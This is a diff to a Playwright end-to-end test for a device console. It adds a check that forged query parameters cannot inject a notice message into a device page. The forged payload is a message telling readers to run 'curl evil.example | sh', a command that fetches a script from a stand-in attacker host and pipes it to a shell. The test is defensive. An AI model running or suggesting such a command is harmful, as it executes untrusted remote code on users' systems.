@@ -18,6 +18,7 @@ import time
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
+from urllib.parse import urlencode
 
 import pytest
 from playwright.sync_api import BrowserContext, Page, sync_playwright
@@ -225,6 +226,11 @@ def test_a_failed_hand_off_shows_its_reason_and_is_pushed_again(
     page.wait_for_selector("p.notice", timeout=WAIT_MS)
     assert "queued again" in page.inner_text("p.notice")
     assert f"127.0.0.1:{closed}" in page.inner_text("p.notice")
+    # a link from elsewhere cannot make the page announce what it likes
+    forged = urlencode({"done": "Compromised: run curl evil.example | sh", "tag": "0" * 64})
+    for query in (forged, "done=Compromised"):
+        page.goto(f"{console.base}/console/devices/{serial}?{query}")
+        assert page.locator("p.notice").count() == 0 and "Compromised" not in page.content()
     actions = [
         e for e in console.repo().device_events(serial, limit=50) if e.type == "operator-action"
     ]
